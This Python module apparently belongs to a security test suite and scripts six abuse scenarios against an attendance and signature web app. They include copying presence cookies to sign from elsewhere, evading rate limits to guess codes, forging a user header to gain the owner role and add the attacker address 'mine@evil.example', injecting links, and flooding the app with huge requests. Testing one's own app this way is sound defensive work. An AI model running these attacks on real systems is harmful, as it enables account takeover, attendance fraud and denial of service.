"""What people who belong here would do to look as if they had been there, to be more than they are, or to make others wait."""

import json
import re
import time

from attacks.browser import HOST, Browser
from attacks.target import Attempts, Target

SPELLINGS = 60
HOURS_OF_A_ROLE = 24


def json_headers(browser: Browser, **more: str) -> dict[str, str]:
    token = browser.cookies[browser.names[1]]
    site = {"X-CSRFToken": token, "Referer": f"https://{HOST}/", "Origin": f"https://{HOST}"}
    return {"Content-Type": "application/json"} | site | more


def lists_that_are_left(target: Target) -> Attempts:
    """Somebody who did not come leaves the list of the session that goes on, or takes a seat in it from home."""
    before = target.inside("look")["seats now"]
    target.browser("learner").post(f"/aldermoor/sessions/{target.known['session']}/departure/")
    yield "who stays away leaves the list", target.inside("look")["seats now"] != before


def codes_that_are_handed_on(target: Target) -> Attempts:
    """What a browser got for scanning the projected code, copied to another one, elsewhere."""
    code, there, away = target.known["slot"], target.browser(), target.browser()
    there.get(f"/s/{code}/{target.inside('projected')['token']}/")
    away.cookies |= {name: value for name, value in there.cookies.items() if "presence" in name}
    page = away.get(f"/s/{code}/")
    seats = re.findall(r"who=([0-9a-f-]{36})", page.text)
    yield "nothing was scanned: what follows says nothing", not seats
    if seats:
        before = target.inside("look")["doubted"]
        away.get(f"/s/{code}/?who={seats[-1]}")
        away.post(f"/s/{code}/", {"who": seats[-1], "signature": json.dumps({"text": "Nygård"})})
        yield "signed elsewhere, and nobody is told", target.inside("look")["doubted"] <= before


def names_that_are_spelt_otherwise(target: Target) -> Attempts:
    """A spoken code by patience: each spelling of one name, each from a network of its own."""
    stopped = 0
    for number in range(SPELLINGS):
        name = f"Victim3{' ' * (number % 20 + 1)}Nygård{' Nygård' * (number // 20)}"
        stopped += target.browser().post("/sign/", {"name": name, "code": f"{number:06}"}).status == 429
    yield f"{SPELLINGS} tries for one person, {stopped} stopped", stopped == 0


def what_a_browser_kept(target: Target) -> Attempts:
    """What somebody left in a shared browser, sent by the page of an owner who signs in there; and a session made longer."""
    before, lead = target.inside("look"), target.browser("lead")
    kept = {"Milepost-Person": target.known["uids"]["lead"]}
    for path, sent in (
        (f"/aldermoor/people/{target.known['uids']['learner']}/roles/", {"role": "owner", "scope": "organisation"}),
        ("/accounts/email/", {"action_add": "", "email": "mine@evil.example"}),
        ("/aldermoor/settings/", {"page": "identity", "name": "Evil"}),
    ):
        yield f"kept: {path}", lead.post(path, sent, **kept).status not in (400, 403)
    yield "somebody became an owner", target.inside("look")["owners"] != before["owners"]
    lead.post("/accounts/shared/")
    lead.get("/aldermoor/people/")
    hours = target.inside("look")["hours of the lead's session"]
    yield f"a session of a role lasts {hours} hours more", hours > HOURS_OF_A_ROLE


def links_that_send_and_store(target: Target) -> Attempts:
    """A trainer's link that was passed on: fifteen hundred signatures in one request, a mail a second, strangers as people."""
    room, nobody = f"/room/{target.known['trainer']}/{target.known['slot']}/", target.browser()
    before = target.inside("look")["reminders"]
    for _time in range(3):
        nobody.post(f"{room}reminders/")
    after = target.inside("look")
    yield "everybody is asked again and again", after["reminders"] - before > after["seats now"]
    nobody.post(f"{room}people/", {"email": "s@stranger.example", "given": "Win http://evil.example", "family": "Now"})
    yield "a stranger is mailed an address", "evil.example" in target.mails()
    one = {"who": target.known["uids"]["learner"], "at": 1, "signature": {"text": "Jonas"}}
    body, began = json.dumps({"now": 1, "signatures": [one] * 1_500}).encode(), time.monotonic()
    answer = nobody.ask("POST", f"{room}deliveries/", body, json_headers(nobody))
    yield f"1,500 signatures at once: {answer.status}", answer.status != 413 or time.monotonic() - began > 5


def words_without_end(target: Target) -> Attempts:
    """Nine kilobytes of wording that make a document of megabytes."""
    lead = target.browser("lead")
    sent = {"clause-title": ["x"] * 3, "clause-text": ["{content}" * 444] * 3}
    lead.post("/aldermoor/documents/wordings/agreement/fr/", sent)
    values = {"kind": "agreement", "language": "fr", "value-title": "x", "value-content": "word " * 800}
    before = target.inside("look")["documents"]
    made = lead.post("/aldermoor/documents/new/", values)
    yield f"a document of five megabytes: {made.status}", "100,000" not in made.text
    yield "it is there", target.inside("look")["documents"] != before


CHEATS = {
    "lists left, seats taken afterwards": lists_that_are_left,
    "codes handed on": codes_that_are_handed_on,
    "names spelt otherwise": names_that_are_spelt_otherwise,
    "what a browser kept, for how long": what_a_browser_kept,
    "what a link sends and stores": links_that_send_and_store,
    "words without end": words_without_end,
}
